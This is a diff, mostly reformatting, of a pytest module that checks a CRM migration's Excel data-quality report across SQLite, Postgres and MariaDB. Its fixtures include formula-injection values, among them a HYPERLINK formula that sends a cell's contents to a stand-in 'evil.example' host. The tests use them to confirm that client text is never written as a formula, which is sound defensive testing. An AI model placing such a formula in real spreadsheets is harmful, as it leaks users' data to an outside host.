@@ -5,6 +5,7 @@ with a record gone from the 1C export), pending review pairs, then the report wr
 .xlsx and read back with openpyxl and python-calamine. Client values that look like
 formulas (``=HYPERLINK``, ``@SUM``, ``-1``, ``+7 495 …``) are part of the data.
 """
+
 from __future__ import annotations
 
 import zipfile
@@ -19,12 +20,12 @@ from python_calamine import CalamineWorkbook
 from sqlalchemy import create_engine, func, insert, select
 from sqlalchemy.engine import make_url
 
+from cli.runner import execute
 from connectors.crm_db import schema as s
 from connectors.crm_db.engine import TargetError
 from connectors.crm_db.report import SHEETS, flatten_payload, report_sheets
 from connectors.crm_db.report_workbook import LOW_FILL, report_workbook
 from connectors.xlsx_writer import Sheet, write_workbook
-from cli.runner import execute
 from tests.clientdata import BUH_ROWS, CRM_ROWS, write_dataset
 from tests.conftest import _server_database  # the target_url databases, kept for a whole module here
 from vocabulary.messages import set_language, text
@@ -33,9 +34,11 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Лютик")'
 CRM = [list(r) for r in CRM_ROWS]
 CRM[0][1] = "7707083890"  # Ромашка with an INN whose checksum fails: a warning
 CRM[2][3] = "+7 495 1234567"  # the branch's city holds a phone number
-BUH = [*BUH_ROWS,
-       ["-1", HYPERLINK, None, None, "12"],  # a formula as a company name, key "-1", a phone too short
-       ["@SUM(1+1)", None, None, None, "+7 495 765-43-21"]]  # no name: quarantined under key "@SUM(1+1)"
+BUH = [
+    *BUH_ROWS,
+    ["-1", HYPERLINK, None, None, "12"],  # a formula as a company name, key "-1", a phone too short
+    ["@SUM(1+1)", None, None, None, "+7 495 765-43-21"],
+]  # no name: quarantined under key "@SUM(1+1)"
 LUTIK = BUH_ROWS[1]  # gone from the 1C export in the second run
 
 
@@ -58,7 +61,7 @@ class Built:
     def summary(self) -> dict[str, object]:
         return {row["item"]: row["value"] for row in self.sheet("summary")}
 
-    def scalar(self, query) -> object:  # noqa: ANN001
+    def scalar(self, query) -> object:
         engine = create_engine(self.url)
         try:
             with engine.connect() as conn:
@@ -67,8 +70,14 @@ class Built:
             engine.dispose()
 
 
-@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres),
-                                        pytest.param("mariadb", marks=pytest.mark.mariadb)])
+@pytest.fixture(
+    scope="module",
+    params=[
+        "sqlite",
+        pytest.param("postgres", marks=pytest.mark.postgres),
+        pytest.param("mariadb", marks=pytest.mark.mariadb),
+    ],
+)
 def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
     folder = tmp_path_factory.mktemp(f"report_{request.param}")
     databases = _database(request.param, folder)
@@ -77,9 +86,12 @@ def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFacto
         with pytest.MonkeyPatch.context() as mp:
             mp.setenv("DAGSTER_HOME", str(folder / "dagster_home"))
             # the second run drops a 1C counterparty on purpose: a deletion beyond the default share
-            runs = [execute(write_dataset(folder, crm_rows=CRM, buh_rows=buh), target=url, dry_run=False,
-                             allow_deletes=True).run_id
-                    for buh in (BUH, [r for r in BUH if r is not LUTIK])]
+            runs = [
+                execute(
+                    write_dataset(folder, crm_rows=CRM, buh_rows=buh), target=url, dry_run=False, allow_deletes=True
+                ).run_id
+                for buh in (BUH, [r for r in BUH if r is not LUTIK])
+            ]
         _add_review_pairs(url, runs[-1])
         path = folder / "quality.xlsx"
         report = report_sheets(url)
@@ -103,12 +115,18 @@ def _add_review_pairs(url: str, run_id: str) -> None:
     engine = create_engine(url)
     try:
         with engine.begin() as conn:
-            conn.execute(insert(s.review_pairs), [
-                pair | dict(run_id=run_id, right_key="-1", score=72, reasons="=names alike (72)"),
-                pair | dict(run_id=run_id, right_key="@SUM(1+1)", score=90, reasons="same phone"),
-            ])
-            conn.execute(insert(s.match_decisions).values(
-                pair | dict(right_key="@SUM(1+1)", decision="different", decided_at=pd.Timestamp("2024-01-01"))))
+            conn.execute(
+                insert(s.review_pairs),
+                [
+                    pair | dict(run_id=run_id, right_key="-1", score=72, reasons="=names alike (72)"),
+                    pair | dict(run_id=run_id, right_key="@SUM(1+1)", score=90, reasons="same phone"),
+                ],
+            )
+            conn.execute(
+                insert(s.match_decisions).values(
+                    pair | dict(right_key="@SUM(1+1)", decision="different", decided_at=pd.Timestamp("2024-01-01"))
+                )
+            )
     finally:
         engine.dispose()
 
@@ -128,29 +146,53 @@ def test_sheets_in_order_with_their_columns(built: Built) -> None:
             (table,) = ws.tables.values()  # an Excel table with filter buttons over the whole sheet
             assert table.ref == ws.dimensions and table.autoFilter is not None
     quarantine = next(built.workbook["Карантин"].iter_rows(max_row=1))
-    assert [c.value for c in quarantine] == ["Источник", "Место в источнике", "Тип записи", "Ключ в источнике",
-                                             "Причины", "Запись"]
+    assert [c.value for c in quarantine] == [
+        "Источник",
+        "Место в источнике",
+        "Тип записи",
+        "Ключ в источнике",
+        "Причины",
+        "Запись",
+    ]
     assert quarantine[4].comment.text == "Почему запись не загружена."
 
 
 def test_summary_is_the_last_run_and_the_live_crm(built: Built) -> None:
-    summary = {key: built.summary()[text(f"report.item.{key}")] for key in (
-        "run_id", "status", "companies_deleted", "records_read", "crm_companies", "crm_branches", "crm_contacts",
-        "crm_with_inn", "crm_with_inn_pct", "crm_phones", "crm_phones_invalid", "crm_review_waiting", "quarantined")}
+    summary = {
+        key: built.summary()[text(f"report.item.{key}")]
+        for key in (
+            "run_id",
+            "status",
+            "companies_deleted",
+            "records_read",
+            "crm_companies",
+            "crm_branches",
+            "crm_contacts",
+            "crm_with_inn",
+            "crm_with_inn_pct",
+            "crm_phones",
+            "crm_phones_invalid",
+            "crm_review_waiting",
+            "quarantined",
+        )
+    }
     c, ct, ph = s.companies, s.contacts, s.phones
     assert summary["run_id"] == built.runs[-1] and summary["status"] == "success"
     assert summary["companies_deleted"] == 1  # Лютик is gone from the 1C export
-    assert summary["records_read"] == built.scalar(select(s.migration_runs.c.records_read)
-                                                   .where(s.migration_runs.c.id == built.runs[-1]))
+    assert summary["records_read"] == built.scalar(
+        select(s.migration_runs.c.records_read).where(s.migration_runs.c.id == built.runs[-1])
+    )
     live = c.c.deleted_at.is_(None)
     assert summary["crm_companies"] == built.scalar(select(func.count()).where(live)) == 4
     assert summary["crm_branches"] == built.scalar(select(func.count()).where(live, c.c.parent_id.is_not(None)))
     assert summary["crm_contacts"] == built.scalar(select(func.count()).where(ct.c.deleted_at.is_(None))) == 3
     assert summary["crm_with_inn"] == 3 and summary["crm_with_inn_pct"] == 75.0
-    company_phones = built.scalar(select(func.count()).select_from(ph.join(c, c.c.id == ph.c.company_id))
-                                  .where(live, ph.c.contact_id.is_(None)))
-    contact_phones = built.scalar(select(func.count()).select_from(ph.join(ct, ct.c.id == ph.c.contact_id))
-                                  .where(ct.c.deleted_at.is_(None)))
+    company_phones = built.scalar(
+        select(func.count()).select_from(ph.join(c, c.c.id == ph.c.company_id)).where(live, ph.c.contact_id.is_(None))
+    )
+    contact_phones = built.scalar(
+        select(func.count()).select_from(ph.join(ct, ct.c.id == ph.c.contact_id)).where(ct.c.deleted_at.is_(None))
+    )
     assert summary["crm_phones"] == company_phones + contact_phones
     assert summary["crm_phones_invalid"] == 1  # "12"
     assert summary["crm_review_waiting"] == 1
@@ -159,18 +201,31 @@ def test_summary_is_the_last_run_and_the_live_crm(built: Built) -> None:
 
 def test_by_source_counts_the_links(built: Built) -> None:
     by_source = {row["source"]: row for row in built.sheet("by_source")}
-    assert by_source["buh"] == {"source": "buh", "companies": 2, "contacts": 0, "gone_from_source": 1,
-                                "quarantined": 1, "with_warnings": 1}
+    assert by_source["buh"] == {
+        "source": "buh",
+        "companies": 2,
+        "contacts": 0,
+        "gone_from_source": 1,
+        "quarantined": 1,
+        "with_warnings": 1,
+    }
     sl = s.source_links
-    assert by_source["old_crm"]["companies"] == built.scalar(select(func.count()).where(
-        sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None))) == 4
+    assert (
+        by_source["old_crm"]["companies"]
+        == built.scalar(
+            select(func.count()).where(sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None))
+        )
+        == 4
+    )
     assert by_source["old_crm"]["quarantined"] == 1
 
 
 def test_quarantine_rows_say_why(built: Built) -> None:
     rows = built.sheet("quarantine")
     assert {(r["source"], r["origin"], r["reasons"]) for r in rows} == {
-        ("old_crm", "Клиенты!8", "name: пусто"), ("buh", "buh.csv:4", "name: пусто")}  # line 4 once Лютик is gone
+        ("old_crm", "Клиенты!8", "name: пусто"),
+        ("buh", "buh.csv:4", "name: пусто"),
+    }  # line 4 once Лютик is gone
     buh = next(r for r in rows if r["source"] == "buh")
     assert buh["source_key"] == "@SUM(1+1)"
     assert buh["record"] == "Код: @SUM(1+1); Телефон: +7 495 765-43-21"
@@ -180,7 +235,11 @@ def test_warnings_name_the_record_to_fix(built: Built) -> None:
     rows = built.sheet("warnings")
     inn = next(r for r in rows if r["warning"].startswith("inn '7707083890'"))
     assert (inn["source"], inn["origin"], inn["entity"], inn["crm_name"]) == (
-        "old_crm", "Клиенты!4", "компания", 'ООО "Ромашка"')
+        "old_crm",
+        "Клиенты!4",
+        "компания",
+        'ООО "Ромашка"',
+    )
     phone = next(r for r in rows if r["source"] == "buh")
     assert phone["source_key"] == "-1" and phone["warning"].startswith("phone '12'")
     assert len(rows) == 2
@@ -189,21 +248,36 @@ def test_warnings_name_the_record_to_fix(built: Built) -> None:
 def test_duplicates_list_every_origin(built: Built) -> None:
     (romashka,) = built.sheet("duplicates")
     assert (romashka["entity"], romashka["name"], romashka["inn"], romashka["records"], romashka["sources"]) == (
-        "компания", 'ООО "Ромашка"', "7707083893", 3, "old_crm, buh")
+        "компания",
+        'ООО "Ромашка"',
+        "7707083893",
+        3,
+        "old_crm, buh",
+    )
     assert sorted(romashka["origins"].splitlines()) == ["buh buh.csv:2 [001]", "old_crm Клиенты!4", "old_crm Клиенты!5"]
 
 
 def test_branches_point_at_their_head_office(built: Built) -> None:
     (branch,) = built.sheet("branches")
     assert (branch["name"], branch["kpp"], branch["city"], branch["head_office"], branch["head_office_kpp"]) == (
-        'ООО "Ромашка"', "781043001", "+7 495 1234567", 'ООО "Ромашка"', "773601001")
+        'ООО "Ромашка"',
+        "781043001",
+        "+7 495 1234567",
+        'ООО "Ромашка"',
+        "773601001",
+    )
 
 
 def test_review_shows_pending_pairs_with_crm_names(built: Built) -> None:
     (pair,) = built.sheet("review")
     hyperlink_company = built.scalar(select(s.companies.c.name).where(s.companies.c.name.startswith("=")))
     assert (pair["left_key"], pair["left_name"], pair["right_key"], pair["right_name"], pair["score"]) == (
-        "Клиенты!7", "ИП Кузнецов Павел Андреевич", "-1", hyperlink_company, 72)
+        "Клиенты!7",
+        "ИП Кузнецов Павел Андреевич",
+        "-1",
+        hyperlink_company,
+        72,
+    )
     assert pair["left_origin"] == "Клиенты!7" and pair["right_origin"] == "buh.csv:3"
 
 
@@ -240,8 +314,11 @@ def test_an_unknown_run_is_a_one_line_error(built: Built) -> None:
 
 def test_a_target_without_data_is_a_one_line_error(target_url: str) -> None:
     """Nothing is created by asking (no SQLite file); a password never shows."""
-    url = target_url if target_url.startswith("sqlite") else \
-        make_url(target_url).set(password="s3cret").render_as_string(hide_password=False)
+    url = (
+        target_url
+        if target_url.startswith("sqlite")
+        else make_url(target_url).set(password="s3cret").render_as_string(hide_password=False)
+    )
     with pytest.raises(TargetError) as error:
         report_sheets(url)
     message = str(error.value)
@@ -252,11 +329,14 @@ def test_a_target_without_data_is_a_one_line_error(target_url: str) -> None:
         assert not Path(make_url(target_url).database).exists()
 
 
-@pytest.mark.parametrize(("payload", "expected"), [
-    ('{"Город": "Москва", "ИНН": null, "Телефон": ["1", "2"]}', "Город: Москва; Телефон: 1, 2"),
-    ("not json", "not json"),
-    (None, None),
-])
+@pytest.mark.parametrize(
+    ("payload", "expected"),
+    [
+        ('{"Город": "Москва", "ИНН": null, "Телефон": ["1", "2"]}', "Город: Москва; Телефон: 1, 2"),
+        ("not json", "not json"),
+        (None, None),
+    ],
+)
 def test_stored_records_read_as_one_line(payload: str | None, expected: str | None) -> None:
     assert flatten_payload(payload) == expected
 
@@ -307,8 +387,15 @@ def test_english_with_language_en(built: Built) -> None:
 def test_merges_and_conflicts_sheets_come_with_their_tables(tmp_path: Path, built: Built) -> None:
     """Every merge of the run with its explanation; conflicts as stored, client text never a formula."""
     merges = built.report["merges"]
-    assert len(merges) > 0 and {"entity", "left_source", "left_key", "right_source", "right_key", "score",
-                                "reasons"} <= set(merges.columns)
+    assert len(merges) > 0 and {
+        "entity",
+        "left_source",
+        "left_key",
+        "right_source",
+        "right_key",
+        "score",
+        "reasons",
+    } <= set(merges.columns)
     assert set(merges["entity"]) <= {"company", "contact"} and merges["reasons"].map(bool).all()
     if not built.url.startswith("sqlite"):
         return
@@ -317,8 +404,10 @@ def test_merges_and_conflicts_sheets_come_with_their_tables(tmp_path: Path, buil
     url = f"sqlite:///{copy}"
     engine = create_engine(url)
     with engine.begin() as conn:
-        conn.exec_driver_sql("INSERT INTO conflicts (run_id, entity, crm_id, field, crm_value, source_value) "
-                             "VALUES ('r', 'company', 1, 'name', '=HYPERLINK(\"x\")', 'ООО Ромашка')")
+        conn.exec_driver_sql(
+            "INSERT INTO conflicts (run_id, entity, crm_id, field, crm_value, source_value) "
+            "VALUES ('r', 'company', 1, 'name', '=HYPERLINK(\"x\")', 'ООО Ромашка')"
+        )
     engine.dispose()
     report = report_sheets(url)
     assert report["conflicts"].to_dict("records")[0]["crm_value"] == '=HYPERLINK("x")'
